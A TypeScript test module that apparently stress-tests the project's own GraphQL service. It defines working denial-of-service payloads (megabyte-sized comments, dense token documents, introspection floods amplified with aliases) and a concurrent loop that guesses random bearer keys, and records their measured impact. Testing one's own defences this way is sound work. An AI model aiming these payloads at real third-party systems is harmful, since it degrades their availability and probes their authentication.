import { randomBytes } from 'node:crypto'
import type { Attack } from '../define-attack.ts'
import { hammerGraphQL } from './hammer.ts'

const LASTING_MS = 15_000

export const longComments: Attack = {
  name: 'graphql: comments of 1 MB without a key',
  before: '4.2 GB in 66 s',
  run: (target) => {
    const comment = 'x'.repeat(1024 * 1024 - 200)
    const body = (index: number) => JSON.stringify({ query: `#${index}${comment}\n{ __typename }` })
    return hammerGraphQL(target, { atOnce: 8, lastingMs: LASTING_MS, body })
  },
}

/** As long as strangers may send, with as many tokens as a document may have, and never the same. */
export const manyDocuments: Attack = {
  name: 'graphql: dense documents of 16 KB without a key',
  before: '513 MB; health p99 0.5 s',
  run: (target) => {
    const body = (index: number) =>
      JSON.stringify({
        query: `#${'x'.repeat(11_000)}\n{ a${index}: __typename ${'__typename '.repeat(390)}}`,
      })
    return hammerGraphQL(target, { atOnce: 8, lastingMs: LASTING_MS, body })
  },
}

const TYPE = 'kind name ofType { kind name ofType { kind name } }'
const SCHEMA = `types { name description fields { name description args { name type { ${TYPE} } } type { ${TYPE} } } }`

export const introspectionAliases: Attack = {
  name: 'graphql: introspection under fifteen names without a key',
  before: 'health p99 3.2 s, a send failed; 1.2 MB a request',
  run: (target) => {
    const aliases = (index: number) =>
      Array.from({ length: 15 }, (_, alias) => `a${index}_${alias}: ${SCHEMA}`).join(' ')
    const body = (index: number) => JSON.stringify({ query: `{ __schema { ${aliases(index)} } }` })
    return hammerGraphQL(target, { atOnce: 8, lastingMs: LASTING_MS, body })
  },
}

/** What strangers may ask, each time written in another way. */
export const introspectionFlood: Attack = {
  name: 'graphql: one question about the schema after the other without a key',
  before: 'health p99 0.7 s',
  run: (target) => {
    const body = (index: number) => JSON.stringify({ query: `{ a${index}: __schema { ${SCHEMA} } }` })
    return hammerGraphQL(target, { atOnce: 8, lastingMs: LASTING_MS, body })
  },
}

export const guessedKeys: Attack = {
  name: 'keys that are not valid',
  before: 'a statement each, without end',
  run: async ({ url, signal }) => {
    const statuses = new Map<number, number>()
    const until = performance.now() + LASTING_MS
    const guess = async () => {
      while (performance.now() < until && !signal.aborted) {
        const headers = { authorization: `Bearer sk_${randomBytes(32).toString('hex')}` }
        const answer = await fetch(`${url}/contacts`, { headers, signal })
        await answer.arrayBuffer()
        statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1)
      }
    }
    await Promise.all(Array.from({ length: 32 }, guess))
    return [...statuses].map(([status, count]) => `${count} × ${status}`).join(', ')
  },
}
